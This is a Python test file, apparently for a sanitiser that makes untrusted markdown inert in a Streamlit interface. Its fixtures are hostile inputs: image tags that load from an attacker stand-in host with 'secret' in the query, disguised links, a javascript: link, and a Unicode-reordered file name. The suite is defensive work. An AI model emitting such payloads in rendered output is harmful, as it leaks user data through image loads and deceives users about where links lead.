"""Text from elsewhere on screen: nothing in it loads, hides or acts."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from lib.ui.inert import plain, plain_lines, prose

IMAGES_AND_LINKS = {
    "image": "look ![chart](http://evil.example/x.png?d=secret)",
    "image in a link": "[![a](http://evil.example/i)](http://evil.example/c)",
    "image by reference": "![a][r]\n\n[r]: http://evil.example/i.png",
    "image by short reference": "![a]\n\n[a]: http://evil.example/i.png",
    "image in a table": "| a |\n|---|\n| ![i](http://evil.example) |",
    "image after an open backtick": "a ` b\n\nc ![x](http://evil.example/q) ` d",
    "image over two lines": "![a\nb](http://evil.example/x)",
    "image in a quote in a list": "- > ![a](http://evil.example/x)",
    "image with angle brackets": "![a](<http://evil.example/a b>)",
    "link with another name": "[https://good.example](https://evil.example)",
    "link with a title": '[a](http://evil.example "http://good.example")',
}


# Marks of Streamlit's own that make code of what CommonMark reads as text, and the other way round.
FORMULAS_AND_DIRECTIVES = {
    "formula around a backtick": "a $`$ ![x](http://evil.example/m.png) $`$ b",
    "directive around a backtick": ":red[`] ![x](http://evil.example/d.png) :red[`]",
    "directive's attribute": ':x[a]{b="`"} ![x](http://evil.example/d.png) :x[a]{b="`"}',
    "leaf directive": '::x[`]{a="b"}\n![x](http://evil.example/l.png) `',
    "container around a fence": ":::x\n```\n:::\n![x](http://evil.example/c.png)\n```",
    "diagram named by an entity": '```&#109;ermaid\nflowchart TD\nA@{ img: "http://evil.example/m.png" }\n```',
    "formula block around a fence": "$$\n```\n$$\n![x](http://evil.example/f.png)\n```",
    "formula around a link": "$`$ [your bank](http://evil.example/l) $`$",
    "address around a backtick": "http://a.example/` ![x](http://evil.example/a.png) `",
}


def targets(markdown: str) -> list[str]:
    """What a CommonMark reader would load, or follow under another name than the target's."""
    tokens = MarkdownIt("commonmark").enable("table").parse(markdown)
    inline = [child for token in tokens for child in token.children or ()]
    return [t.type for t in inline if t.type == "image" or (t.type == "link_open" and t.markup != "autolink")]


@pytest.mark.parametrize("markdown", IMAGES_AND_LINKS.values(), ids=IMAGES_AND_LINKS.keys())
def test_nothing_loads_and_every_link_shows_where_it_leads(markdown: str) -> None:
    assert targets(markdown)
    assert targets(prose(markdown)) == []


@given(st.text(alphabet="![]()`<>:/\\\n -|ab\"'#~*_=.h", max_size=80))
def test_no_mixture_of_marks_gets_through(markdown: str) -> None:
    assert targets(prose(markdown)) == []


@pytest.mark.parametrize("markdown", FORMULAS_AND_DIRECTIVES.values(), ids=FORMULAS_AND_DIRECTIVES.keys())
def test_streamlits_own_marks_are_text(markdown: str) -> None:
    made = prose(markdown)
    outside_code = re.sub(r"```.*?(```|\Z)|`[^`]*`", "", made, flags=re.DOTALL)
    assert re.findall(r"(?<!\\)\$|(?<!\\):(?=[A-Za-z:\[])", outside_code.replace("http:", "")) == []
    assert not re.search(r"^```(?!text$|$)", made, re.MULTILINE)


def test_a_script_is_no_link() -> None:
    assert "](" not in prose("[press](javascript:alert(1))")


def test_code_stays_as_it_is() -> None:
    markdown = "Use `a[0](x)` or\n\n```python\nv = rows[1](2)\n![kept](http://kept.example)\n```\n\ndone"
    made = prose(markdown)
    assert "`a[0]\u2060(x)`" in made
    assert "v = rows[1](2)\n![kept](http://kept.example)" in made


def test_plain_markdown_is_left_alone() -> None:
    markdown = "# Title\n\n1. **a** and *b*\n2. `c`\n\n| x | y |\n|---|---|\n| 1 | 2 |\n\nSee <https://duckdb.org>."
    assert prose(markdown) == markdown


def test_diagrams_stay_code() -> None:
    assert prose("```mermaid\ngraph TD\n```").startswith("```text")


@pytest.mark.parametrize(
    "text",
    ["a*b*", "<script>", "[x](y)", "`c`", "# h", "$1$", ":red[x]", "- x", "1. x", "_a_", "&amp;", "->", ":streamlit:"],
)
def test_names_are_literal(text: str) -> None:
    shown = MarkdownIt().render(plain(text)).replace("\u2060", "").strip()
    assert shown == f"<p>{text.replace('&', '&amp;').replace('<', '&lt;').replace('>', '&gt;')}</p>"


def test_names_cannot_reorder_or_hide_text() -> None:
    assert plain("sales\u202evsc.exe\x00\u200b") == "sales vsc.exe"


@pytest.mark.parametrize("text", ["LLM_API_KEY", "sales.csv", "3 of 4 (75 %)", "a: b", "12:30"])
def test_what_cannot_act_is_left_alone(text: str) -> None:
    assert plain(text) == text


def test_lines_do_not_become_a_table() -> None:
    made = MarkdownIt().enable("table").render(plain_lines("| a | b |\n|--|--|\n| c | d |"))
    assert "<table" not in made
    assert "| c | d |" in made


def test_a_question_keeps_its_lines() -> None:
    assert plain_lines("a\nb") == "a  \nb"


@pytest.mark.parametrize("name", ["https://evil.test/a", "www.evil.test", "WWW.evil.test", "me@evil.test"])
def test_an_address_in_a_name_is_no_link(name: str) -> None:
    shown = plain(name)
    assert shown.replace("\u2060", "").replace("\\", "") == name
    assert not re.search(r"://|www\.|\w@", shown, re.IGNORECASE)
